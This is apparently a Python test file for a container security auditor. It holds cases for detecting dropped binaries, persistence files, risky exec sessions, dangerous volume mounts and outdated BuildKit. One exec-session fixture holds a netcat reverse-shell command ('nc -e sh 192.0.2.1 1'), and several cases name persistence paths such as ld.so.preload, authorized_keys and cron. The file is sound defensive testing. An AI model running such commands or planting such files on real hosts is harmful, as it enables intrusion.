"""Cases of the checks that look at what a container does, on answers of real engines where one shows it."""

from __future__ import annotations

import json
from typing import Any

from checks.verdict import Outcome, Severity
from inventory.activity import Activity, Change, Process, Session
from inventory.container import Container, Device, DeviceRequest, Healthcheck, Mount
from inventory.gap import Gap, Reason
from inventory.host import DiskFacts
from inventory.network import Volume
from inventory.resource import Kind, Resource, ResourceKey
from inventory.sources.docker import translate
from inventory.sources.docker.execs import understood
from tests.checks.builders import GAP, NOW, SOURCE, captured, changed, container, docker, engine, host, podman
from tests.checks.builders import podman_engine as podman_of
from tests.checks.cases import ENGINE, Case

FAIL, PASS, MANUAL = Outcome.FAIL, Outcome.PASS, Outcome.MANUAL
NA, UNKNOWN = Outcome.NOT_APPLICABLE, Outcome.UNKNOWN
INFO, LOW, MEDIUM, HIGH, CRITICAL = Severity
MIB, GIB = 1 << 20, 1 << 30

_plain, _exited = docker("plain"), docker("exited-zero")
_named, _podman = docker("healthy"), podman("plain")  # healthy: Config.User "app"
_stopped = changed(_plain, state="exited", pid=0)


def activity(of: Container, **values: Any) -> Activity:
    """What a container does: one process, nothing changed, nobody inside."""
    known: dict[str, Any] = {
        "processes": (Process(of.pid, 1, "sleep", ("sleep", "100000"), 0, 0, "/bin/sleep", NOW - 60, False),),
        "listeners": (),
        "changes": (),
        "changes_complete": True,
        "sessions": (),
        "size_rw": 0,
    }
    return Activity.build(key=ResourceKey(Kind.ACTIVITY, SOURCE, of.id), name=of.name, **{**known, **values})


def told_by_engine(path: str) -> tuple[Change, ...]:
    """A captured answer about changed files: the engine names paths and nothing else of them."""
    kinds = ("modified", "added", "deleted")
    return tuple(Change(one["Path"], kinds[one["Kind"]]) for one in json.loads(captured(path)))


def wrote(path: str, mode: int = 0o644, size: int = 100, kind: str = "added", file: str = "file") -> Change:
    """A file in the upper directory."""
    return Change(path, kind, file, mode, size, NOW - 60)


def drift(
    expected: Outcome,
    *changes: Change,
    note: str,
    severity: Severity | None = None,
    of: Container = _plain,
    **more: Any,
) -> Case:
    """A container with these changes."""
    return Case("RUN-045", of, expected, severity, (ENGINE, activity(of, changes=changes, **more)), note=note)


# Of a real engine: `docker exec act sh -c 'touch /tmp/x; cp /bin/busybox /tmp/evil; sleep 3000'`.
_DROPPED = (
    wrote("/tmp", 0o1777, 4096, "modified", "directory"),
    wrote("/tmp/evil", 0o755, 1982256),
    wrote("/tmp/x", size=0),
)
# Of a real Podman: what it writes itself when it starts a container.
_BY_PODMAN = (
    wrote("/etc", 0o755, 4096, "modified", "directory"),
    wrote("/etc/hostname", 0o755, 0),
    wrote("/etc/hosts", 0o755, 0),
    wrote("/etc/mtab", 0o777, 12, file="symlink"),
    wrote("/run", 0o755, 4096, "modified", "directory"),
    wrote("/run/.containerenv", 0o755, 0),
)

DRIFT = [
    drift(FAIL, *_DROPPED, note="a program in /tmp", severity=HIGH),
    drift(PASS, *_BY_PODMAN, note="what podman writes", of=_podman),
    drift(PASS, note="nothing changed"),
    drift(FAIL, wrote("/usr/bin/ls", 0o755, 5, "modified"), note="program replaced", severity=HIGH),
    drift(FAIL, wrote("/usr/local/sbin/x", 0o600, 5), note="program without x yet", severity=HIGH),
    drift(FAIL, wrote("/bin/sh", 0o777, 7, "added or modified", "symlink"), note="shell is another", severity=HIGH),
    drift(FAIL, wrote("/usr/lib/x86_64-linux-gnu/libc.so.6", 0o644), note="library", severity=HIGH),
    drift(FAIL, wrote("/etc/ld.so.preload", 0o644, 12), note="preload", severity=HIGH),
    drift(FAIL, wrote("/root/.ssh/authorized_keys", 0o600), note="key", severity=HIGH),
    drift(FAIL, wrote("/etc/cron.d/x", 0o644), note="cron", severity=HIGH),
    drift(FAIL, wrote("/data/miner", 0o4755), note="set-id anywhere", severity=HIGH),
    drift(PASS, wrote("/var/lib/app/x.db"), wrote("/var/log/x.log"), wrote("/run/x.pid"), note="data"),
    drift(PASS, wrote("/usr/lib/python3/site.pyc"), note="byte code"),
    drift(PASS, wrote("/usr/bin/x", kind="deleted", file="", size=0), note="deleted"),
    *(
        drift(FAIL, wrote(path, 0o755, 5), note=f"a program called {path}", severity=HIGH)
        for path in (
            "/run/x",
            "/run/x.sh",
            "/var/log/miner",
            "/tmp/evil.log",
            "/tmp/kit.sock",
            "/tmp/photo.jpg",
            "/usr/local/bin/x.lock",
            "/usr/bin/x.json",
            "/srv/x.pid",
            "/app/run.sh",
            "/app/logo.png.elf",
        )
    ),
    drift(FAIL, wrote("/usr/local/bin/x.lock", 0o600, 5), note="in bin, whatever it is called", severity=HIGH),
    drift(FAIL, wrote("/app/uploads/photo.jpg", 0o4755), note="set-id, whatever it is called", severity=HIGH),
    drift(MANUAL, wrote("/app/uploads/photo.jpg", 0o777), note="data that can be executed", severity=LOW),
    drift(MANUAL, wrote("/app/A.PDF", 0o755), wrote("/etc/x.conf"), note="data and configuration", severity=LOW),
    drift(PASS, wrote("/app/uploads/photo.jpg", 0o666), wrote("/run/x.sh", 0o644, 5), note="without an x bit"),
    drift(PASS, wrote("/run/x", 0o755, size=0), note="empty"),
    drift(MANUAL, wrote("/etc/nginx/conf.d/default.conf", kind="modified"), note="configuration", severity=LOW),
    drift(PASS, wrote("/etc/.pwd.lock", 0o600, 5), note="a lock in /etc"),
    drift(UNKNOWN, Change("/tmp/evil.log", "added"), note="called a log, mode not told"),
    drift(UNKNOWN, wrote("/var/lib/x"), note="more than is kept", changes_complete=False),
    drift(FAIL, wrote("/tmp/x", 0o755), note="found among many", changes_complete=False),
    drift(UNKNOWN, *told_by_engine("docker-api/changes-dropped.json"), note="modes not told"),
    drift(UNKNOWN, *told_by_engine("docker-api/changes-plain.json"), note="a file in /tmp, mode not told"),
    drift(PASS, *told_by_engine("podman-api/changes-plain.json"), note="told by podman", of=_podman),
    drift(FAIL, Change("/usr/bin", "modified"), Change("/usr/bin/x", "added"), note="in bin, mode not told"),
    drift(NA, *_DROPPED, note="read-only", of=docker("hardened")),
    drift(NA, note="stopped", of=_stopped),
    drift(NA, note="crash loop between two starts", of=docker("crashloop")),
    Case("RUN-045", _plain, UNKNOWN, note="nobody has looked"),
    Case("RUN-045", _plain, UNKNOWN, others=(ENGINE, activity(_plain, changes=GAP, changes_complete=GAP)), note="gap"),
]


def layer(expected: Outcome, size: object, note: str, free: int | None = 100 * GIB, **more: Any) -> Case:
    """A container with a writable layer of this size on a disk with so much free."""
    others: tuple[Resource, ...] = (ENGINE, activity(_plain, size_rw=size, **more))
    if free is not None:
        disk = DiskFacts("engine", "/var/lib/docker", "/", 200 * GIB, free, 1000, 900)
        others += (host(disks=(disk,)),)
    return Case("RUN-046", _plain, expected, LOW if expected is FAIL else None, others, note=note)


LAYERS = [
    layer(FAIL, GIB + 1, "more than 1 GiB"),
    layer(FAIL, GIB + 1, "more than 1 GiB, machine not looked at", free=None),
    layer(FAIL, 300 * MIB, "a fifth of what is free", free=GIB),
    layer(PASS, 300 * MIB, "less than a fifth"),
    layer(PASS, 1982256, "small, machine not looked at", free=None),
    layer(PASS, 60 * MIB, "small beside a full disk", free=MIB),
    layer(UNKNOWN, 300 * MIB, "machine not looked at", free=None),
    layer(UNKNOWN, MIB, "not all counted", changes_complete=False),
    layer(UNKNOWN, Gap(Reason.UNSUPPORTED, "bytes in the writable layer"), "not told"),
    Case("RUN-046", _stopped, NA, note="stopped"),
    Case("RUN-046", _plain, UNKNOWN, note="nobody has looked"),
]


def session(**values: Any) -> Session:
    """A captured exec session of user 65534 (`sleep 200`), with other values."""
    document = json.loads(captured("docker-api/exec-inspect.json"))
    found = understood(json.dumps(document).encode(), document["ID"])
    assert isinstance(found, Session)
    return Session(**{name: values.get(name, getattr(found, name)) for name in Session.__struct_fields__})


def inside(
    expected: Outcome, *found: Session, note: str, severity: Severity | None = None, of: Container = _plain
) -> Case:
    """A container with these sessions."""
    return Case("RUN-049", of, expected, severity, (ENGINE, activity(of, sessions=found)), note=note)


_PROBE, _PIPEFAIL = "curl -f http://localhost/", ("/bin/bash", "-o", "pipefail", "-c")
_probed = changed(_plain, healthcheck=Healthcheck(("CMD-SHELL", _PROBE)))
_probed_by_bash = changed(docker("plain", Config__Shell=[*_PIPEFAIL]), healthcheck=_probed.healthcheck)
_probed_directly = changed(_plain, healthcheck=Healthcheck(("CMD", "/probe", "-q")))

SESSIONS = [
    inside(MANUAL, session(), note="another user"),
    inside(FAIL, session(privileged=True), note="privileged", severity=HIGH),
    inside(FAIL, session(user="0"), note="root in a container of app", severity=MEDIUM, of=_named),
    inside(FAIL, session(user="root"), note="root by name", severity=MEDIUM, of=_named),
    inside(MANUAL, session(user=""), note="the container's own user", of=_named),
    inside(MANUAL, session(user="0"), note="root in a container of root"),
    inside(PASS, note="nobody"),
    inside(PASS, session(command=("/bin/sh", "-c", _PROBE), user=""), note="probe", of=_probed),
    inside(PASS, session(command=("sh", "-c", _PROBE), user=""), note="probe of podman", of=_probed),
    inside(PASS, session(command=(*_PIPEFAIL, _PROBE), user=""), note="probe by the image's shell", of=_probed_by_bash),
    inside(MANUAL, session(command=(*_PIPEFAIL, _PROBE), user=""), note="a shell that is not its own", of=_probed),
    inside(MANUAL, session(command=("sh", "-c", "nc -e sh 192.0.2.1 1", _PROBE), user=""), note="$0", of=_probed),
    inside(MANUAL, session(command=("nc", "-c", _PROBE), user=""), note="no shell", of=_probed),
    inside(MANUAL, session(command=(_PROBE,), user=""), note="the words alone", of=_probed),
    inside(MANUAL, session(command=("sh", "-c", _PROBE), user="", terminal=True), note="a person's", of=_probed),
    inside(MANUAL, session(command=("sh", "-c", _PROBE), user="65534"), note="another's probe", of=_probed),
    inside(
        FAIL,
        session(command=("sh", "-c", _PROBE), user="", privileged=True),
        note="privileged",
        of=_probed,
        severity=HIGH,
    ),
    inside(PASS, session(command=("/probe", "-q"), user=""), note="probe without a shell", of=_probed_directly),
    inside(MANUAL, session(command=("/probe",)), note="not quite the probe", of=_probed_directly),
    Case("RUN-049", _exited, NA, note="stopped"),
    Case("RUN-049", _plain, UNKNOWN, note="nobody has looked"),
    Case("RUN-049", _plain, UNKNOWN, others=(ENGINE, activity(_plain, sessions=GAP)), note="gap"),
]


def volume(**options: str) -> Volume:
    """The captured volume `pgdata` with other options."""
    document = next(
        one for one in json.loads(captured("docker-api/volumes.json"))["Volumes"] if one["Name"] == "pgdata"
    )
    return translate.volume(json.dumps({**document, "Options": options or None}).encode(), SOURCE, NOW)


def bound(expected: Outcome, note: str, severity: Severity | None = None, **options: str) -> Case:
    """A volume with these options, and a container that mounts it."""
    user = container(mounts=(Mount("volume", "/x", "/data", True, "", "pgdata", "local"),))
    return Case("RUN-052", volume(**options), expected, severity, (ENGINE, user), note=note)


VOLUMES = [
    bound(FAIL, "etc", CRITICAL, type="none", o="bind", device="/etc"),
    bound(FAIL, "root, options in another order", CRITICAL, o="rw,rbind", device="/"),
    bound(FAIL, "logs", HIGH, type="none", o="bind", device="/var/log"),
    bound(FAIL, "root read-only", HIGH, type="none", o="bind,ro", device="/"),
    bound(FAIL, "only by its type", CRITICAL, type="none", device="/root/../etc"),
    bound(FAIL, "the engine's own directory", CRITICAL, type="none", o="bind", device="/srv/lab/dk/data/volumes"),
    bound(FAIL, "password of a share", HIGH, type="cifs", o="username=u,password=hunter2,vers=3.0", device="//h/s"),
    bound(MANUAL, "another directory", None, type="none", o="bind", device="/data/app"),
    bound(FAIL, "a relative path, below the engine's /", CRITICAL, type="none", o="bind", device="etc"),
    bound(FAIL, "a disk of the host", CRITICAL, type="ext4", device="/dev/sda1"),
    bound(FAIL, "a disk by another spelling", CRITICAL, type="xfs", o="noatime", device="//dev/../dev/mapper/root"),
    bound(FAIL, "a disk, read-only", HIGH, type="ext4", o="noatime,ro", device="/dev/sda1"),
    bound(FAIL, "a disk, the last word counts", CRITICAL, type="ext4", o="ro,rw", device="/dev/sda1"),
    bound(FAIL, "a disk of a foreign type", CRITICAL, type="ntfs3", device="/dev/sdb"),
    bound(FAIL, "overlay of /etc", HIGH, type="overlay", device="x", o="lowerdir=/etc,upperdir=/data/u,workdir=/w"),
    bound(FAIL, "overlay of many", HIGH, type="overlay", device="x", o="lowerdir=/data/a:/root,upperdir=/data/u"),
    bound(FAIL, "overlay written to", CRITICAL, type="overlay", device="x", o="lowerdir=/a,upperdir=/etc,workdir=/w"),
    bound(MANUAL, "overlay of other paths", None, type="overlay", device="x", o="lowerdir=/data/a,upperdir=/data/b"),
    bound(FAIL, "the kernel's settings", CRITICAL, type="sysfs", device="sysfs"),
    bound(FAIL, "every device", HIGH, type="devtmpfs", device="x"),
    bound(MANUAL, "another type", None, type="9p", o="trans=virtio", device="data"),
    bound(FAIL, "secret of a share", HIGH, type="ceph", o="name=u,secret=AQDkkVliNhcwJBAAtz==", device="x:/"),
    bound(MANUAL, "old NFS", None, type="nfs", o="addr=10.0.0.1,nfsvers=3,rw", device=":/x"),
    bound(MANUAL, "old NFS by a flag", None, type="nfs", o="addr=10.0.0.1,v3", device=":/x"),
    bound(MANUAL, "NFS, the kernel's choice", None, type="nfs", o="addr=10.0.0.1,rw", device=":/x"),
    bound(PASS, "NFS 4", None, type="nfs", o="addr=10.0.0.1,vers=4.2,rw", device=":/x"),
    bound(PASS, "NFS 4 by its type", None, type="nfs4", o="addr=10.0.0.1", device=":/x"),
    Case("RUN-052", volume(type="nfs", o="addr=10.0.0.1", device=":/x"), PASS, None, (podman_of(),), note="mount.nfs"),
    bound(PASS, "share without a password", None, type="cifs", o="sec=krb5", device="//h/s"),
    bound(PASS, "a quota alone", size="10G"),
    bound(PASS, "tmpfs", None, type="tmpfs", o="size=100m,uid=1000", device="tmpfs"),
    bound(PASS, "plain"),
    Case("RUN-052", changed(volume(), driver="rexray"), NA, note="another driver"),
    Case("RUN-052", changed(volume(), options=GAP), UNKNOWN, note="options not read"),
]

_all_gpus = DeviceRequest("nvidia", -1, (), (("gpu",),))
DEVICES = [
    Case("RUN-041", container(device_requests=(_all_gpus,)), MANUAL, note="gpus"),
    Case("RUN-041", container(device_requests=(DeviceRequest("cdi", 0, ("a.b/c=d",)),)), MANUAL, note="cdi"),
    Case("RUN-041", container(devices=(Device("nvidia.com/gpu=all", "", ""),)), MANUAL, note="cdi by podman"),
    Case("RUN-041", container(devices=(Device("/dev/null", "/dev/null", "r"),)), PASS, note="a plain device"),
    Case("RUN-041", _podman, PASS, note="podman"),
    Case("RUN-041", container(device_requests=GAP), UNKNOWN, note="gap"),
]

_podman_readonly = changed(podman("mounts"), readonly_rootfs=True)
TMPFS = [
    Case("RUN-027", _podman_readonly, MANUAL, others=(podman_of(),), note="podman leaves noexec out"),
    Case("RUN-027", container(tmpfs={"/tmp": "size=64m"}), PASS, note="docker's default"),
    Case("RUN-027", container(tmpfs={"/tmp": ""}), PASS, note="no options"),
    Case("RUN-027", container(tmpfs={"/tmp": "rw,exec,size=64m"}), MANUAL, note="exec"),
    Case("RUN-027", container(tmpfs={"/tmp": "exec,noexec"}), PASS, note="the last one counts"),
    Case("RUN-027", container(tmpfs={"/tmp": "ro,exec"}), PASS, note="not writable"),
    Case("RUN-027", container(tmpfs={}), PASS, note="none"),
    Case("RUN-027", _plain, NA, note="writable as a whole"),
    Case("RUN-027", container(tmpfs=GAP), UNKNOWN, note="gap"),
]


def built(version: str) -> Resource:
    """The captured engine of another version."""
    return engine(version=version)


def builder(image: str, **changes: Any) -> Container:
    """A running container of a buildx builder."""
    return changed(_plain, image_ref=image, **changes)


_old, _new = builder("moby/buildkit:v0.12.4"), builder("docker.io/moby/buildkit:v0.29.0-rootless")
_moving = changed(builder("moby/buildkit:buildx-stable-1"), key=ResourceKey(Kind.CONTAINER, SOURCE, "m"), name="m")
BUILDKIT = [
    Case("RUN-066", built("24.0.9"), FAIL, CRITICAL, (), note="24.0.9 did not take it in"),
    Case("RUN-066", built("25.0.2"), MANUAL, MEDIUM, (), note="fixed of 2024, not of 2026"),
    Case("RUN-066", built("29.3.1"), PASS, None, (), note="fixed"),
    Case("RUN-066", built("17.12.1"), PASS, None, (), note="before BuildKit"),
    Case("RUN-066", ENGINE, MANUAL, CRITICAL, (), note="a distribution's"),
    Case("RUN-066", built("29.3.1"), FAIL, CRITICAL, (_old,), note="old builder"),
    Case("RUN-066", built("29.3.1"), PASS, None, (_new,), note="new builder"),
    Case("RUN-066", built("29.3.1"), PASS, None, (changed(_old, state="exited"),), note="stopped builder"),
    Case("RUN-066", podman_of(), FAIL, CRITICAL, (_old,), note="builder in podman"),
    Case("RUN-066", podman_of(), PASS, None, (_new,), note="new builder in podman"),
    Case("RUN-066", podman_of(), NA, None, (), note="podman alone"),
    *(
        Case("RUN-066", of, UNKNOWN, None, (builder(image),), note=f"{of.peek('flavour')}, {image}")
        for of in (built("29.3.1"), podman_of())
        for image in (
            "moby/buildkit:buildx-stable-1",
            "moby/buildkit",
            "docker.io/moby/buildkit:latest",
            "reg.example:5000/moby/buildkit:rootless",
            "moby/buildkit@sha256:" + "a" * 64,
        )
    ),
    Case("RUN-066", built("29.3.1"), FAIL, CRITICAL, (_old, _moving), note="an old one, and one that is not told"),
    Case("RUN-066", built("24.0.9"), FAIL, CRITICAL, (_moving,), note="the engine, and a builder that is not told"),
    Case("RUN-066", built("25.0.2"), MANUAL, MEDIUM, (_moving,), note="the engine's to look at first"),
    Case("RUN-066", built("29.3.1"), PASS, None, (builder("moby/buildkit-fork:1"),), note="another program"),
    Case("RUN-066", built("dev"), UNKNOWN, None, (), note="no version"),
    Case("RUN-066", podman_of(), MANUAL, None, (_new,), now=NOW + 400 * 86400, note="old table"),
]

CASES = [*DRIFT, *LAYERS, *SESSIONS, *VOLUMES, *DEVICES, *TMPFS, *BUILDKIT]
